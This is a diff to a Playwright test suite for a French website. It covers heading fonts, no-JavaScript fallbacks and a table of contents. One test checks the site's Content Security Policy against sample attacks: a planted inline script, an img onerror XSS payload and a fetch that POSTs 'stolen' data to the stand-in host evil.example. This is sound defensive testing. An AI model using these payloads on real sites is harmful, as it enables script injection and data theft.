@@ -1,16 +1,23 @@
 import common from '../../locales/fr/common.json' with { type: 'json' };
-import { notFoundNoise, paths } from './paths.ts';
+import { noiseOf, paths } from './paths.ts';
 import { expect, test } from './test.ts';
 
 for (const path of paths) {
   test.describe(`the page ${path}`, () => {
-    test.use({ expectedNoise: path === '/nowhere' ? [notFoundNoise] : [] });
+    test.beforeEach(({ expectedNoise }) => {
+      expectedNoise.push(...noiseOf(path));
+    });
 
     test('shows its heading in the site’s font', async ({ page }) => {
       await page.goto(path);
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-      const isLoaded = () => document.fonts.check('700 1em "Bricolage Grotesque"');
-      await expect.poll(() => page.evaluate(isLoaded)).toBe(true);
+      const heading = page.getByRole('heading', { level: 1 });
+      await expect(heading).toBeVisible();
+      await expect(heading).toHaveCSS('font-family', /^"?Bricolage Grotesque"?,/);
+      const loadedFonts = () =>
+        [...document.fonts]
+          .filter(({ status }) => status === 'loaded')
+          .map(({ family }) => family.replaceAll('"', ''));
+      await expect.poll(() => page.evaluate(loadedFonts)).toContain('Bricolage Grotesque');
     });
 
     test('has the same texts without JavaScript, and a button shows the e-mail address', {
@@ -106,55 +113,52 @@ test('the table of contents of a legal page marks the article that is read, belo
   await expect(contents.locator('[aria-current]')).toHaveText('Modification des CGU');
 });
 
-test.describe('where its script does not come', () => {
-  test.use({ expectedNoise: [/Failed to load resource|toc-/] });
-
-  test('the table of contents leads to its articles, and no error is thrown', async ({ page }) => {
-    await page.route('**/toc-*.js', (route) => route.abort());
-    const failure = page.waitForEvent('requestfailed');
-    await page.goto('/cgu');
-    await failure;
-    const contents = page.getByRole('navigation', { name: 'Sommaire' });
-    await contents.getByRole('link', { name: 'Propriété intellectuelle' }).click();
-    await expect(page.getByRole('heading', { name: 'Propriété intellectuelle' })).toBeInViewport();
-  });
+test('without its script, the table of contents leads to its articles, and throws nothing', async ({
+  page,
+  expectedNoise,
+}) => {
+  expectedNoise.push(/Failed to load resource|toc-/);
+  await page.route('**/toc-*.js', (route) => route.abort());
+  const failure = page.waitForEvent('requestfailed');
+  await page.goto('/cgu');
+  await failure;
+  const contents = page.getByRole('navigation', { name: 'Sommaire' });
+  await contents.getByRole('link', { name: 'Propriété intellectuelle' }).click();
+  await expect(page.getByRole('heading', { name: 'Propriété intellectuelle' })).toBeInViewport();
 });
 
-test.describe('an attack on the page', () => {
-  test.use({ expectedNoise: [/Content Security Policy|TrustedHTML|violates|evil\.example/] });
-
-  test('is refused by its policy: an inline script, markup from a script, another site', {
-    tag: '@chromium',
-  }, async ({ page }) => {
-    await page.route('/deployment', async (route) => {
-      const response = await route.fetch();
-      const planted = '<script>window.planted = 1</script></body>';
-      await route.fulfill({
-        response,
-        body: (await response.text()).replace('</body>', planted),
-      });
+test('the policy of a page refuses an inline script, markup from a script, another site', {
+  tag: '@chromium',
+}, async ({ page, expectedNoise }) => {
+  expectedNoise.push(/Content Security Policy|TrustedHTML|violates|evil\.example/);
+  await page.route('/deployment', async (route) => {
+    const response = await route.fetch();
+    const planted = '<script>window.planted = 1</script></body>';
+    await route.fulfill({
+      response,
+      body: (await response.text()).replace('</body>', planted),
     });
-    const refused: string[] = [];
-    await page.exposeFunction('refuse', (directive: string) => refused.push(directive));
-    await page.addInitScript(() => {
-      const { refuse } = window as unknown as { refuse(directive: string): void };
-      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-        refuse(effectiveDirective),
-      );
-    });
-    await page.goto('/deployment');
-    const attacks: (() => unknown)[] = [
-      () => {
-        document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
-      },
-      () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
-      () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
-    ];
-    for (const attack of attacks) {
-      await page.evaluate(attack).catch(() => undefined);
-    }
-    const directives = ['connect-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'];
-    await expect.poll(() => [...new Set(refused)].sort()).toEqual(directives);
-    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
   });
+  const refused: string[] = [];
+  await page.exposeFunction('refuse', (directive: string) => refused.push(directive));
+  await page.addInitScript(() => {
+    const { refuse } = window as unknown as { refuse(directive: string): void };
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      refuse(effectiveDirective),
+    );
+  });
+  await page.goto('/deployment');
+  const attacks: (() => unknown)[] = [
+    () => {
+      document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
+    },
+    () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
+    () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
+  ];
+  for (const attack of attacks) {
+    await page.evaluate(attack).catch(() => undefined);
+  }
+  const directives = ['connect-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'];
+  await expect.poll(() => [...new Set(refused)].sort()).toEqual(directives);
+  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
 });
